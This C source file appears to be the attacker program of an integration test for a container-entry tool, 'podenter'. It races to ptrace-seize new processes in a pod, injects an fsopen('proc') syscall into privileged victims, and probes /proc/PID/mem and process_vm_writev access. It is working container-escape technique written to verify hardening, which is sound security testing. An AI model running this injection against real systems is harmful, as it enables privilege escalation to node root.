/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The attacker of tests/integration/harden-ptrace-window.sh (issue 13): a
 * process in the pod, holding CAP_SYS_PTRACE (as a pod that asked for it
 * does), that tries to ptrace every process that appears in its PID
 * namespace, as early as it can: podenter's session process enters the
 * pod's PID namespace holding podenter's capabilities, and keeps them
 * until it executes the tiny reaper (the command's process likewise until
 * it drops them). Built static, so it also runs in a busybox pod.
 *
 *   ptrace-window-attack SECONDS [STOP-FILE]
 *
 * (it stops early, summary printed, once STOP-FILE exists: the node
 * harness plants it, as a stop asked through `ctr task exec` would start
 * runc's own exec process in the pod, a victim too).
 *
 * It seizes each new PID (the next PIDs the namespace will hand out, tried
 * in a busy loop, and every new entry of /proc), stops what it seized, and
 * reads its effective capabilities while it holds it stopped. One line per
 * process it reached:
 *   seized PID CAPEFF privileged|plain COMM   (privileged: CAP_SYS_ADMIN)
 *   refused PID ERRNO                         (the kernel said no)
 * and for a privileged one (x86_64) what a takeover is for, done:
 *   inject PID fsopen ok|EPERM|...            (a fresh, unmasked procfs made
 *                                              by the victim: node root)
 * then "summary seized N privileged N refused N" at the end. Each victim
 * is given back as it was (its system call re-run, then detached).
 *
 * Seizing is not the only way in: opening /proc/PID/mem for writing and
 * process_vm_writev only ask whether the attacker may trace the process
 * (PTRACE_MODE_ATTACH), never whether someone traces it already, so
 * podenter's trace guard does not stop them; with CAP_SYS_PTRACE in the
 * node's user namespace, non-dumpable does not either. Whoever may write
 * a process's memory runs code in it with its capabilities. So every
 * process of podenter's it reaches (comm "podenter..." or
 * "memfd:podenter...": before and at its exec) is also probed, without
 * writing a byte into it:
 *   memprobe PID MEM VM_WRITEV COMM   (MEM: "granted" or the open's errno;
 *                                      VM_WRITEV: "granted" or its errno)
 * and when either is granted, what the attacker could then command:
 *   memopen PID CAPPRM CAPEFF CAPBND privileged|harmless COMM
 * privileged: a capability in any of the three sets outside the attacker's
 * own bounding set (printed first as "attacker-bounding CAPBND"); an
 * injected root process with a wider bounding set regains all of it by
 * executing any program. At the end
 * "memsummary probed N granted N refused N privileged N".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PID (1 << 22)
#define CAP_SYS_ADMIN_BIT 21
#define SYSCALL_STOP (SIGTRAP | 0x80)

static unsigned char known[MAX_PID / 8];
static volatile sig_atomic_t stop;
static int max_pid, n_seized, n_privileged, n_refused;
static int n_mem_probed, n_mem_granted, n_mem_refused, n_mem_privileged;
/* the attacker's own bounding set: what it holds already, or may regain */
static unsigned long long own_bounding;

static bool is_known(int pid)
{
	return known[pid / 8] & (1u << (pid % 8));
}

static void mark(int pid)
{
	known[pid / 8] |= (unsigned char)(1u << (pid % 8));
	if (pid > max_pid)
		max_pid = pid;
}

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static const char *err_name(int e)
{
	switch (e) {
	case 0:
		return "ok";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ESRCH:
		return "ESRCH";
	case EBUSY:
		return "EBUSY";
	case EINVAL:
		return "EINVAL";
	case ENOENT:
		return "ENOENT";
	case EFAULT:
		return "EFAULT";
	default:
		return "EOTHER";
	}
}

/* A stop of pid within a bound: its wait status, or -1 (gone, or never). */
static int wait_stop(int pid)
{
	long long until = now_ms() + 2000;
	int st;

	while (now_ms() < until) {
		pid_t r = waitpid(pid, &st, __WALL | WNOHANG);

		if (r == pid)
			return WIFSTOPPED(st) ? st : -1;
		if (r < 0)
			return -1;
		usleep(200);
	}
	return -1;
}

struct proc_status {
	char comm[64];
	char capprm[32], capeff[32], capbnd[32];
};

/* pid's name and capability sets ("?" for what could not be read) */
static void read_status(int pid, struct proc_status *st)
{
	char path[64], line[256];
	FILE *f;

	snprintf(st->comm, sizeof(st->comm), "?");
	snprintf(st->capprm, sizeof(st->capprm), "?");
	snprintf(st->capeff, sizeof(st->capeff), "?");
	snprintf(st->capbnd, sizeof(st->capbnd), "?");
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		if (!strncmp(line, "Name:\t", 6))
			snprintf(st->comm, sizeof(st->comm), "%s", line + 6);
		else if (!strncmp(line, "CapPrm:\t", 8))
			snprintf(st->capprm, sizeof(st->capprm), "%s",
				 line + 8);
		else if (!strncmp(line, "CapEff:\t", 8))
			snprintf(st->capeff, sizeof(st->capeff), "%s",
				 line + 8);
		else if (!strncmp(line, "CapBnd:\t", 8))
			snprintf(st->capbnd, sizeof(st->capbnd), "%s",
				 line + 8);
	}
	fclose(f);
}

#ifdef __x86_64__
/*
 * Make the stopped victim call fsopen("proc"): at its next system call's
 * entry, that call is replaced (orig_rax), its result read at the exit,
 * then its registers are put back so that the original call runs again.
 */
static void inject_fsopen(int pid)
{
	struct user_regs_struct saved, r;
	unsigned long word = 0;
	int st = -1;

	for (int i = 0; i < 8; i++) {
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0)
			break;
		st = wait_stop(pid);
		if (st < 0 || WSTOPSIG(st) == SYSCALL_STOP)
			break;
	}
	if (st < 0 || WSTOPSIG(st) != SYSCALL_STOP ||
	    ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
		printf("inject %d no-syscall-stop\n", pid);
		return;
	}
	/* "proc" below the victim's stack pointer, past the red zone */
	memcpy(&word, "proc\0\0\0", 8);
	r = saved;
	r.orig_rax = 430; /* fsopen */
	r.rdi = saved.rsp - 512;
	r.rsi = 0;
	if (ptrace(PTRACE_POKEDATA, pid, r.rdi, word) < 0 ||
	    ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 ||
	    ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || wait_stop(pid) < 0 ||
	    ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) {
		printf("inject %d ptrace-failed\n", pid);
		return;
	}
	printf("inject %d fsopen %s\n", pid,
	       (long)r.rax >= 0 ? "ok" : err_name((int)-(long)r.rax));
	/* the victim's own call, once more */
	saved.rip -= 2;
	saved.rax = saved.orig_rax;
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
}
#else
static void inject_fsopen(int pid)
{
	printf("inject %d skipped\n", pid);
}
#endif

/* Seize pid; false when there is no such process (yet). */
static bool seize(int pid)
{
	struct proc_status st = { 0 };
	unsigned long long caps;
	bool privileged;

	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) {
		if (errno == ESRCH)
			return false; /* not (yet) there */
		mark(pid);
		n_refused++;
		printf("refused %d %s\n", pid, err_name(errno));
		return true;
	}
	mark(pid);
	n_seized++;
	/* held still: what it holds now is what the attacker commands */
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || wait_stop(pid) < 0) {
		printf("seized %d ? gone ?\n", pid);
		return true;
	}
	read_status(pid, &st);
	caps = strtoull(st.capeff, NULL, 16);
	privileged = caps & (1ULL << CAP_SYS_ADMIN_BIT);
	printf("seized %d %s %s %s\n", pid, st.capeff,
	       privileged ? "privileged" : "plain", st.comm);
	if (privileged) {
		n_privileged++;
		inject_fsopen(pid);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return true;
}

/* podenter's code: its name until it executes, or its memfd program's */
static bool is_podenter(const char *comm)
{
	return !strncmp(comm, "podenter", 8) ||
	       !strncmp(comm, "memfd:podenter", 14);
}

/*
 * May the attacker write pid's memory through /proc/PID/mem? The open
 * itself is the kernel's decision (mm_access, PTRACE_MODE_ATTACH: EACCES
 * when refused); nothing is written through it.
 */
static const char *probe_proc_mem(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return err_name(errno);
	close(fd);
	return "granted";
}

/*
 * May the attacker write pid's memory with process_vm_writev? One byte to
 * the remote address 1, in page 0, which no process maps (vm.mmap_min_addr
 * keeps it unmapped; podenter maps nothing there). The kernel
 * (mm/process_vm_access.c) checks access first (mm_access with
 * PTRACE_MODE_ATTACH_REALCREDS; EPERM when refused, after ESRCH for no
 * such process), and only then looks the remote page up, which fails:
 * EFAULT means the write was allowed, and nothing was written. The length
 * must not be 0: a call that covers no page returns 0 before any check.
 * Verified on Linux 6.18 with a non-dumpable child: EFAULT from root,
 * EPERM from nobody and from root without CAP_SYS_PTRACE.
 */
static const char *probe_vm_writev(int pid)
{
	char byte = 0;
	struct iovec local = { .iov_base = &byte, .iov_len = 1 };
	struct iovec remote = { .iov_base = (void *)1, .iov_len = 1 };
	ssize_t n = process_vm_writev(pid, &local, 1, &remote, 1, 0);

	if (n >= 0)
		return "wrote"; /* never: page 0 was mapped after all */
	return errno == EFAULT ? "granted" : err_name(errno);
}

static void probe_memory(int pid)
{
	struct proc_status st = { 0 };
	const char *mem, *vm;
	unsigned long long held;
	bool granted, privileged;

	read_status(pid, &st);
	if (!is_podenter(st.comm))
		return;
	mem = probe_proc_mem(pid);
	vm = probe_vm_writev(pid);
	printf("memprobe %d %s %s %s\n", pid, mem, vm, st.comm);
	n_mem_probed++;
	granted = !strcmp(mem, "granted") || !strcmp(vm, "granted") ||
		  !strcmp(vm, "wrote");
	if (!granted) {
		if (!strcmp(mem, "EACCES") || !strcmp(vm, "EPERM"))
			n_mem_refused++;
		return;
	}
	n_mem_granted++;
	/* what it holds while the attacker holds the way in */
	read_status(pid, &st);
	if (!strcmp(st.capbnd, "?")) {
		printf("memopen %d ? ? ? gone %s\n", pid, st.comm);
		return;
	}
	held = strtoull(st.capprm, NULL, 16) | strtoull(st.capeff, NULL, 16) |
	       strtoull(st.capbnd, NULL, 16);
	privileged = held & ~own_bounding;
	if (privileged)
		n_mem_privileged++;
	printf("memopen %d %s %s %s %s %s\n", pid, st.capprm, st.capeff,
	       st.capbnd, privileged ? "privileged" : "harmless", st.comm);
}

static void attack(int pid)
{
	if (seize(pid))
		probe_memory(pid);
}

static void scan_proc(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d))) {
		long pid = strtol(e->d_name, NULL, 10);

		if (pid > 0 && pid < MAX_PID && !is_known((int)pid))
			attack((int)pid);
	}
	closedir(d);
}

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	long long until = now_ms() + 1000LL * (argc > 1 ? atoi(argv[1]) : 10);
	const char *stop_file = argc > 2 ? argv[2] : NULL;
	DIR *d = opendir("/proc");
	struct dirent *e;
	struct proc_status self = { 0 };

	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	read_status(getpid(), &self);
	if (!strcmp(self.capbnd, "?")) {
		printf("cannot read its own bounding set\n");
		return 1;
	}
	own_bounding = strtoull(self.capbnd, NULL, 16);
	printf("attacker-bounding %s\n", self.capbnd);
	/* what runs already is the pod's own */
	while (d && (e = readdir(d))) {
		long pid = strtol(e->d_name, NULL, 10);

		if (pid > 0 && pid < MAX_PID)
			mark((int)pid);
	}
	if (d)
		closedir(d);
	mark(getpid());
	printf("ready %d\n", max_pid);
	for (unsigned long n = 0; !stop && now_ms() < until; n++) {
		/* the PIDs the namespace hands out next, as soon as they
		 * exist; now and then /proc, for whatever came otherwise */
		for (int pid = max_pid + 1; pid <= max_pid + 8 && pid < MAX_PID;
		     pid++)
			if (!is_known(pid))
				attack(pid);
		if (n % 256 == 0) {
			scan_proc();
			if (stop_file && access(stop_file, F_OK) == 0)
				break;
		}
	}
	printf("summary seized %d privileged %d refused %d\n", n_seized,
	       n_privileged, n_refused);
	printf("memsummary probed %d granted %d refused %d privileged %d\n",
	       n_mem_probed, n_mem_granted, n_mem_refused, n_mem_privileged);
	return 0;
}
